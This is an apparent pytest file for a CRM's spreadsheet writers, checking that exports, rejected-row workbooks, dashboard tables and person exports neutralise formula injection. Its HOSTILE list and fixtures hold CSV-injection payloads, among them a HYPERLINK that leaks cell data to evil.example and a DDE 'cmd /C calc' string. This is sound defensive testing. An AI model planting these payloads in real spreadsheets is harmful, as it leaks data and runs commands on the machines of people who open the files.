"""Every spreadsheet SalesDesk writes goes through ``sheets.writer.neutralise``: hostile text in
every text field, header and list is written so that no cell is a formula and the values read
back (and re-import) unchanged.

Writers: the export (xlsx and csv, with its hidden "Lists" sheet), the rejected-rows workbook,
the dashboard's tables and the person export.
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from salesdesk.crm import privacy
from salesdesk.crm.funnel import stages
from salesdesk.db.models import Contact, FollowUp, Lead, Owner, Tag
from salesdesk.sheets import batch, pipeline, readers
from salesdesk.sheets import export as ex
from salesdesk.sheets.export import CONTACTS, FOLLOWUPS, LEADS, ExportRequest

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
]


def _xlsx(text: str) -> str:
    """The text as an xlsx cell holds it: XML reads a bare CR as a line feed (so does Excel)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


XLSX_HOSTILE = [_xlsx(t) for t in HOSTILE]


def _no_formulas(path: Path) -> list[object]:
    """Every cell value of every sheet (hidden ones too); fails on any formula cell."""
    book = openpyxl.load_workbook(path)  # not read-only: data_type is the cell's own
    values: list[object] = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


@pytest.fixture
def hostile(db):
    """Stages, owners, contacts, leads, tags and follow-ups named with every hostile text."""
    with db.transaction() as s:
        first = stages(s)[0]
        first.name = "=1+1 stage"
        stages(s)[1].name = '=HYPERLINK("http://x","stage")'
        owners = [Owner(name=f"{text} owner", initials=f"O{i}") for i, text in enumerate(HOSTILE)]
        owners.append(Owner(name='=HYPERLINK("http://x","owner")', initials="OX"))
        s.add_all(owners)
        for i, text in enumerate(HOSTILE):
            contact = Contact(
                name=text,
                first_name=text,
                last_name=text,
                title=text,
                email=f"p{i}@example.com",
                city=text,
                street=text,
                website=text,
                notes=text,
                business_id=text,
                owner=owners[i],
            )
            lead = Lead(
                contact=contact,
                title=text,
                stage=first,
                owner=owners[i],
                source_detail=text,
                notes=text,
                tags=[Tag(name=f"{text} tag {i}")],
            )
            s.add_all([contact, lead])
            s.add(
                FollowUp(
                    uid=f"h{i}",
                    lead=lead,
                    title=text,
                    kind="call",
                    note=text,
                    due_at=datetime(2026, 12, 1, 8, 0, tzinfo=UTC),
                    owner=owners[i],
                )
            )


def test_xlsx_export_has_no_formula_anywhere(db, hostile, tmp_path: Path) -> None:
    target = tmp_path / "all.xlsx"
    with db.session() as s:
        ex.export(s, target, ExportRequest(kinds=(LEADS, CONTACTS, FOLLOWUPS)))
    values = _no_formulas(target)
    for text in XLSX_HOSTILE:
        assert text in values, repr(text)
        assert f"{text} owner" in values, repr(text)  # the owner column and its drop-down list
    book = openpyxl.load_workbook(target)
    lists = [c.value for row in book["Lists"].iter_rows() for c in row]
    assert "=1+1 stage" in lists and '=HYPERLINK("http://x","stage")' in lists
    assert '=HYPERLINK("http://x","owner")' in lists
    # and SalesDesk's reader sees the same text
    sheet = readers.read_sheet(target, "Lists")
    assert "=1+1 stage" in [v for r in sheet.rows for v in r]


def test_csv_export_round_trips_through_the_importer(db, hostile, tmp_path: Path) -> None:
    target = tmp_path / "leads.csv"
    with db.session() as s:
        ex.export(s, target, ExportRequest())
    with target.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:  # the OWASP rule: nothing a spreadsheet would run
                assert (
                    cell[:1] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" or cell[1:].strip("0123456789 ") == ""
                ), cell
    rows = readers.read_sheet(target).rows
    titles = {r[ex.headers(LEADS).index("Lead title")] for r in rows[1:]}
    assert titles == set(HOSTILE)
    assert {r[ex.headers(LEADS).index("Lead notes")] for r in rows[1:]} == set(HOSTILE)
    # the importer stores what was exported (it trims leading white space, its own rule)
    with db.session() as s:
        before = {t.strip(): n.strip() for t, n in s.execute(select(Lead.title, Lead.notes))}
    result = batch.run_import(db, pipeline.analyse(target), batch.BatchSettings())
    assert (result.created, result.rejected) == (0, 0)
    with db.session() as s:
        assert {t: n for t, n in s.execute(select(Lead.title, Lead.notes))} == before


def test_neutralise_and_restore_are_inverse() -> None:
    from salesdesk.sheets import writer

    for text in [*HOSTILE, "", "plain", "'", "''", "+358 40 123 4567", "-5", "'-5", "'+x"]:
        assert writer.restore_csv(writer.neutralise(text)) == text, text
        assert not writer.is_risky(writer.neutralise(text)), text


def _hostile_import_file(folder: Path) -> Path:
    """A bought list: a formula header, hostile cells, every row rejected (bad e-mail)."""
    path = folder / "bought.csv"
    header = ["First name", "Last name", "E-mail", "Notes", '=HYPERLINK("http://evil.example","Info")']
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(header)
        for text in HOSTILE:
            out.writerow([text, text, "not an e-mail @", text, text])
    return path


def test_rejected_rows_workbook_has_no_formulas_and_reimports_unchanged(db, tmp_path: Path) -> None:
    source = _hostile_import_file(tmp_path)
    analysis = pipeline.analyse(source)
    result = batch.run_import(db, analysis, dry_run=True)
    assert result.rejected == len(HOSTILE)
    out = tmp_path / "bought_rejected.xlsx"
    assert batch.save_rejected(result, analysis, out) == len(HOSTILE)
    _no_formulas(out)
    # the bought list as SalesDesk read it (a csv's "'=..." is read as "=...", see writer.py)
    read = [[_xlsx(v) for v in r] for r in readers.read_sheet(source).rows]
    rows = readers.read_sheet(out).rows
    assert rows[0][:5] == read[0] and rows[0][4] == '=HYPERLINK("http://evil.example","Info")'
    assert [r[:5] for r in rows[1:]] == read[1:]
    assert [r[0] for r in read[1:]][:12] == XLSX_HOSTILE[:12]
    # re-importing the rejected file reads exactly what the bought list had
    again = pipeline.analyse(out)
    assert [r.original[:5] for r in batch.run_import(db, again, dry_run=True).rejected_rows] == read[1:]


def test_rejected_rows_path_is_checked_before_writing(db, tmp_path: Path) -> None:
    from salesdesk.errors import UserError

    source = _hostile_import_file(tmp_path)
    analysis = pipeline.analyse(source)
    result = batch.run_import(db, analysis, dry_run=True)
    (tmp_path / "file").write_text("x")
    with pytest.raises(UserError, match="is a file, not a folder"):
        batch.save_rejected(result, analysis, tmp_path / "file" / "out.xlsx")
    with pytest.raises(UserError, match="too long"):
        batch.save_rejected(result, analysis, tmp_path / ("r" * 300 + ".xlsx"))


def test_dashboard_tables_have_no_formulas(tmp_path: Path) -> None:
    from salesdesk.gui.views.dashboard import write_workbook

    target = tmp_path / "dash.xlsx"
    sheets = [
        (
            "=1+1 [sheet]",
            [*HOSTILE, "Value"],
            [[*(("", t, "text") for t in HOSTILE), ("", 12_345, "money")] for _ in range(3)],
        )
    ]
    write_workbook(target, sheets)
    values = _no_formulas(target)
    assert all(values.count(t) == 4 for t in XLSX_HOSTILE)  # header + 3 rows, unchanged
    assert 123.45 in values


def test_person_export_has_no_formulas(tmp_path: Path) -> None:
    target = tmp_path / "person.xlsx"
    data = {
        "contact": [{"name": t, "notes": t} for t in HOSTILE],
        "notes": [{t: t} for t in HOSTILE],  # hostile keys become header cells
    }
    privacy.write_xlsx(data, target)
    values = _no_formulas(target)
    assert all(values.count(t) >= 3 for t in XLSX_HOSTILE)
